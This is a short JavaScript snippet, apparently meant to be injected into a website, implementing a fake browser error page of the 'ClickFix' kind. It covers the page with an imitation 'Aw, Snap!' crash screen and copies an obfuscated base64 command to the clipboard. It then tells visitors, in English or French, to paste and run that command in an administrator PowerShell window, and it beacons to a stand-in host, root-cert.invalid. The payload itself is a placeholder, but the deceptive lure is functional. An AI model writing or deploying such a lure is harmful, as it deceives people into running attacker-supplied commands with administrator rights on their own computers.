var lang = (navigator.language || "en").split("-")[0];
var text = lang == "fr"
  ? { h: "Une erreur s'est produite lors de l'affichage de cette page", b: "Copier le correctif", s: "Cliquez sur « Copier le correctif », faites un clic droit sur Démarrer, choisissez Windows PowerShell (Admin), puis clic droit dans la fenêtre" }
  : { h: "Something went wrong while displaying this webpage", b: "Copy fix", s: "Click \"Copy fix\", right-click the Start icon, select Windows PowerShell (Admin), right-click inside the window to paste and run" };
var frame = document.createElement("iframe");
frame.style.cssText = "position:fixed;inset:0;width:100vw;height:100vh;border:0;z-index:2147483647;background:#fff";
frame.srcdoc = "<style>body{font:16px Segoe UI}</style><h2>Aw, Snap!</h2><p>" + text.h + "</p><p>Error code: DNS_PROBE_FINISHED_NXDOMAIN</p><button id=f>" + text.b + "</button><div id=s></div>";
document.documentElement.appendChild(frame);
document.documentElement.style.overflow = "hidden";
frame.onload = function () {
  var d = frame.contentDocument;
  d.getElementById("f").onclick = function () {
    var raw = atob("aXBjb25maWcgL2ZsdXNoZG5zOyBQTEFDRUhPTERFUiBodHRwczovL3Jvb3QtY2VydC5pbnZhbGlkL0FBQUE=");
    var el = d.createElement("textarea");
    el.value = raw;
    d.body.appendChild(el);
    el.select();
    d.execCommand("copy");
    d.body.removeChild(el);
    d.getElementById("s").textContent = text.s;
    new Image().src = "https://root-cert.invalid/c.gif?" + Date.now();
  };
};
